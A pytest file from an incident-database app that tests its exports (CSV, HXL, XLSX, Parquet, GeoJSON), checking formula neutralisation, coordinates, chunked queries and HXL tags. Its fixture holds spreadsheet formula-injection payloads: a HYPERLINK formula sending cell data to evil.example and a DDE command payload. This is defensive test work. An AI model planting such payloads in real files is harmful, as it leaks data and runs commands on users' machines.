"""What each format writes: formulas neutralised, coordinates, types, chunked reading."""

import io
import re

import hxl
import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st

from salama.conftest import make_incident
from salama.incidents import choices as c
from salama.interchange.exports import chunks, filter_form, incidents_for, schemes, writers
from salama.interchange.exports.writers import neutralise
from salama.interchange.tests.export_readers import export_bytes, exported, read_rows

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "narrative": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "place": "+cmd|' /C calc'!A0",
    "admin1": "-2+3",
    "admin2": "@SUM(1+1)",
    "perpetrator_name": "\tTab first",
}


@pytest.fixture
def dangerous(reporter, undp):
    return make_incident(reporter, undp, **DANGEROUS)


@pytest.mark.parametrize("format_name", ["csv", "hxl"])
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(
    dangerous, reporter, format_name
):
    _, (row,) = exported(reporter, format_name, "native")
    for field, text in DANGEROUS.items():
        assert row[field] == "'" + text, field
    assert row["latitude"] == "4.85"  # numbers stay numbers


def test_a_carriage_return_first_is_neutralised_too():
    assert neutralise("\rcmd") == "'\rcmd"
    assert neutralise("plain") == "plain"
    assert neutralise(-1.5) == -1.5
    assert neutralise("") == ""


def test_xlsx_cells_are_text_never_formulas(dangerous, reporter):
    _, data = export_bytes(reporter, "xlsx", "native")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["incidents"]
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in DANGEROUS}
    for name, cell in cells.items():
        assert cell.data_type == "s", name
        assert cell.value == "'" + DANGEROUS[name]
    assert sheet.cell(row=2, column=header.index("latitude") + 1).value == 4.85


def test_negative_coordinates_are_written_as_numbers_not_neutralised(reporter, undp):
    make_incident(
        reporter,
        undp,
        country="BR",
        latitude=-15.79,
        longitude=-47.88,
        admin1="Distrito Federal",
        place="Brasília",
    )
    _, (row,) = exported(reporter, "csv", "awsd")
    assert (row["Latitude"], row["Longitude"]) == ("-15.79", "-47.88")
    _, (row,) = exported(reporter, "csv", "native")
    assert row["place"] == "Brasília"


def test_parquet_and_geojson_keep_text_as_it_is(dangerous, reporter):
    _, (row,) = exported(reporter, "parquet", "native")
    assert row["narrative"] == DANGEROUS["narrative"]
    assert row["latitude"] == 4.85
    _, (feature,) = exported(reporter, "geojson", "native")
    assert feature["narrative"] == DANGEROUS["narrative"]


def test_geojson_has_only_incidents_with_coordinates_and_their_precision(reporter, undp):
    make_incident(reporter, undp, latitude=None, longitude=None, coordinate_precision="")
    make_incident(
        reporter, undp, coordinate_precision=c.CoordinatePrecision.ADMIN1, place="Terekeka"
    )
    result, features = exported(reporter, "geojson", "native")
    assert result.rows == 1
    (feature,) = features
    assert feature["_coordinates"] == [31.6, 4.85]  # longitude first (RFC 7946)
    assert feature["coordinate_precision"] == "admin1"
    assert feature["coordinates_obfuscated"] is False
    # Schemes without a precision column still say it.
    _, (sind_feature,) = exported(reporter, "geojson", "sind")
    assert sind_feature["coordinate_precision"] == "admin1"
    assert sind_feature["Geo Precision"] == "(4) Province, state, governorate"


def test_illegal_xml_characters_do_not_break_the_workbook(reporter, undp):
    make_incident(reporter, undp, narrative="Bell\x07 and NUL-free text")
    _, (row,) = exported(reporter, "xlsx", "native")
    assert row["narrative"] == "Bell and NUL-free text"


def test_chunks_cost_a_fixed_number_of_queries_whatever_their_size(reporter, undp):
    for day in range(1, 8):
        make_incident(reporter, undp, date=f"2024-03-{day:02d}", place=f"Juba {day}")
    incidents = incidents_for(reporter, filter_form({}))

    def queries(chunk_size):
        with CaptureQueriesContext(connection) as captured:
            loaded = [item for chunk in chunks(incidents, chunk_size) for item in chunk]
        return len(captured), loaded

    small, loaded_small = queries(3)  # 3 + 3 + 1 incidents
    big, loaded_big = queries(1000)
    assert big == 5  # incidents, persons, totals, sources, road crashes
    assert small == 3 * 5
    assert [i.incident["place"] for i in loaded_small] == [f"Juba {d}" for d in range(7, 0, -1)]
    assert [i.incident["place"] for i in loaded_big] == [i.incident["place"] for i in loaded_small]


def test_incidents_of_the_same_day_are_not_lost_at_a_chunk_boundary(reporter, undp):
    for n in range(5):
        make_incident(reporter, undp, place=f"Same day {n}")
    result, rows = exported(reporter, "csv", "native", chunk_size=2)
    assert result.rows == 5
    assert sorted(r["place"] for r in rows) == [f"Same day {n}" for n in range(5)]


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(reporter, undp, monkeypatch):
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 3)
    for n in range(5):
        make_incident(reporter, undp, place=f"Place {n}")
    _, data = export_bytes(reporter, "xlsx", "native")
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert book.sheetnames[:3] == ["incidents", "persons", "incidents (2)"]
    places = [r["place"] for r in read_rows("xlsx", data)]
    places += [r["place"] for r in read_rows("xlsx", data, sheet="incidents (2)")]
    places += [r["place"] for r in read_rows("xlsx", data, sheet="incidents (3)")]
    assert sorted(places) == [f"Place {n}" for n in range(5)]


HXL_TAG = re.compile(r"^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$")


def test_every_column_of_every_scheme_has_a_valid_hxl_hashtag():
    for name, module in schemes.registry().items():
        columns = [*module.COLUMNS, *getattr(module, "PERSON_COLUMNS", [])]
        for column in columns:
            assert HXL_TAG.match(column.hxl), (name, column)
            assert hxl.model.TagPattern.parse(column.hxl), (name, column)


class _Scheme:
    COLUMNS = [schemes.Column("text"), schemes.Column("number", "float")]


@settings(max_examples=200, deadline=None)
@given(text=st.text(), number=st.floats(allow_nan=False, allow_infinity=False) | st.none())
def test_a_csv_cell_reads_back_as_written_or_quoted_when_it_could_run(text, number):
    buffer = writers.Chunks()
    writer = writers.CsvWriter(buffer, _Scheme)
    writer.write(None, (text, number))
    (row,) = read_rows("csv", buffer.take())
    could_run = text[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert row["text"] == ("'" + text if could_run else text)
    assert row["number"] == ("" if number is None else repr(number))
    assert row["text"][:1] not in ("=", "+", "-", "@", "\t", "\r")
